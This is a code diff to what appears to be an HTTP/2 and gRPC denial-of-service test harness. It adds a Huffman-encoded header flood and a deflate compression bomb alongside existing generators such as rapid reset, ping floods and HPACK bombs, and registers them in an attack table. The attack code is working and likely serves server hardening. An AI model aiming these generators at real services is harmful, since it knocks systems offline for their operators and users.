@@ -78,6 +78,20 @@ def header_flood(path: bytes) -> Pieces:
         yield frame(HEADERS, END_HEADERS | END_STREAM, number, head(path, *more))
 
 
+def huffman_flood(path: bytes) -> Pieces:
+    """Calls with one long Huffman string each, all different: a loop over its bytes, and not many headers."""
+    for number in count(1, 2):
+        packed = int("00011" * 8 * 3_000, 2).to_bytes(15_000, "big")  # each 00011 is an a
+        name, size = b"x-%d" % number, len(packed) - 0x7F
+        value = bytes((0xFF, size & 0x7F | 0x80, size >> 7)) + packed
+        yield frame(HEADERS, END_HEADERS, number, head(path) + b"\0" + bytes((len(name),)) + name + value)
+
+
+def deflate_bomb(path: bytes) -> Pieces:
+    """The compression bomb in deflate, which does not say how large it is."""
+    return bombs(path, b"deflate", zlib.MAX_WBITS)
+
+
 def pings(path: bytes) -> Pieces:
     """CVE-2019-9512."""
     while True:
@@ -135,9 +149,14 @@ def giant_frames(path: bytes) -> Pieces:
 
 def compression_bomb(path: bytes) -> Pieces:
     """Calls whose 20 KiB expand to 20 MiB, the largest message that is taken."""
-    packer = zlib.compressobj(9, wbits=16 + zlib.MAX_WBITS)
+    return bombs(path, b"gzip", 16 + zlib.MAX_WBITS)
+
+
+def bombs(path: bytes, encoding: bytes, wbits: int) -> Pieces:
+    """Calls with a message of 20 MiB of zeros, packed."""
+    packer = zlib.compressobj(9, wbits=wbits)
     packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(20)) + packer.flush()
-    message, block = b"\1" + U32.pack(len(packed)) + packed, head(path, (b"grpc-encoding", b"gzip"))
+    message, block = b"\1" + U32.pack(len(packed)) + packed, head(path, (b"grpc-encoding", encoding))
     cut = [message[at : at + 16_000] for at in range(0, len(message), 16_000)]
     for number in count(1, 2):
         data = [frame(DATA, END_STREAM if piece is cut[-1] else 0, number, piece) for piece in cut]
@@ -153,7 +172,8 @@ def no_windows(path: bytes) -> Pieces:
 ATTACKS: dict[str, Callable[[bytes], Pieces]] = {
     attack.__name__: attack
     for attack in (
-        rapid_reset, made_to_reset, continuations, hpack_bomb, header_flood, pings, empty_settings, full_settings,
-        priorities, empty_data, tiny_data, byte_windows, giant_frames, compression_bomb, no_windows,
+        rapid_reset, made_to_reset, continuations, hpack_bomb, header_flood, huffman_flood, pings, empty_settings,
+        full_settings, priorities, empty_data, tiny_data, byte_windows, giant_frames, compression_bomb, deflate_bomb,
+        no_windows,
     )
 }  # fmt: skip
